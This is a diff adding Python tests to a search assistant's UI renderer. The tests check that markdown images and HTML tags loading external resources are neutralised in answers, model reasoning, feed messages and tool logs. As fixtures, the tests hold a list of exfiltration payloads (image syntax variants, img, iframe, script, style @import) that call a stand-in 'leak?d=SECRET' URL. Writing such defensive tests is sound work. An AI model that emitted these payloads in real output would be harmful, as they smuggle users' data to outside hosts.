@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import re
 
+from searchbox.records.events import Event
 from searchbox.ui.answer import CITATION_JS, render_answer, render_sources
+from searchbox.ui.feed import Feed
 
 SOURCES = [
     {"id": "s1", "kind": "range", "path": "dataroom/legal/lease.txt", "chunk": None, "start": 1, "end": 12,
@@ -92,3 +94,56 @@ def test_an_empty_ledger_still_renders() -> None:
 def test_the_citation_script_opens_the_target() -> None:
     assert CITATION_JS.startswith("() =>") and "a.cite" in CITATION_JS
     assert ".open = true" in CITATION_JS and "scrollIntoView" in CITATION_JS
+
+
+# --- nothing rendered loads from outside the app -------------------------------------------------
+
+LEAK = "http://127.0.0.1:9/leak?d=SECRET"
+
+
+def test_a_markdown_image_becomes_its_alt_text_and_a_link() -> None:
+    out = render_answer(f'The chart ![revenue by year]({LEAK} "title") shows it [s1].', SOURCES)
+    assert "![" not in out and "<img" not in out
+    assert out.startswith(f"The chart revenue by year (image not loaded: [http://127\\.0\\.0\\.1:9/leak?d=SECRET]({LEAK}))")
+    assert out.endswith(f"shows it {link('s1', '[s1]')}.")
+    assert render_answer("![](https://x.example/a.png)", SOURCES).startswith("image (image not loaded: ")
+
+
+def test_no_image_syntax_survives() -> None:
+    hostile = [f"![x][ref]\n\n[ref]: {LEAK}", f"![x]\n\n[x]: {LEAK}", f"[![badge]({LEAK})]({LEAK})", f"![a [b] c]({LEAK})",
+               f"![x](<{LEAK}>)", f"!![x]({LEAK})", f"![x]( {LEAK} )"]
+    for text in hostile:
+        out = render_answer(text, SOURCES)
+        assert "![" not in out and "<img" not in out, (text, out)
+
+
+def test_tags_that_load_are_shown_as_text() -> None:
+    for tag in (f'<img src="{LEAK}">', f"<iframe src={LEAK}></iframe>", f"<link rel=stylesheet href={LEAK}>",
+                f"<style>@import url({LEAK})</style>", f"<script src={LEAK}></script>", f"<video poster={LEAK}>"):
+        out = render_answer(tag, SOURCES)
+        assert "<" not in out and out.startswith("&lt;"), out
+
+
+def test_the_feed_renders_the_models_text_inert() -> None:
+    feed = Feed(f"What is ![q]({LEAK})?")
+    feed.add(Event("step_start", 1, 1, 0.0))
+    feed.add(Event("delta", 1, 1, 0.0, {"kind": "reasoning", "text": f"<img src={LEAK}>"}))
+    feed.add(Event("delta", 1, 1, 0.0, {"kind": "text", "text": f"See ![x]({LEAK})"}))
+    question, reasoning, text = feed.messages
+    assert "![" not in question["content"] and "image not loaded" in question["content"]
+    assert reasoning["content"] == f"&lt;img src={LEAK}&gt;"
+    assert "![" not in text["content"]
+    feed.add(Event("step_end", 1, 1, 0.0, {"text": f"Done ![y]({LEAK})", "llm_ms": 1}))
+    assert text["content"].startswith("Done y (image not loaded: ")
+
+
+def test_the_feeds_tool_titles_and_logs_are_inert() -> None:
+    feed = Feed("q")
+    arguments = {"path": "notes.md", "content": f"![x]({LEAK}) <img src={LEAK}>"}
+    feed.add(Event("tool_start", 1, 1, 0.0, {"call_id": "c", "name": "write", "arguments": arguments}))
+    assert "![" not in feed.messages[-1]["metadata"]["title"]
+    feed.add(Event("tool_end", 1, 1, 0.0, {"call_id": "c", "name": "write", "arguments": arguments, "is_error": True,
+                                          "preview": "", "gist": f"![y]({LEAK})", "duration_ms": 1}))
+    metadata = feed.messages[-1]["metadata"]
+    assert "![" not in metadata["title"] and "<img" not in metadata["title"]
+    assert metadata["log"].startswith("y (image not loaded: ")
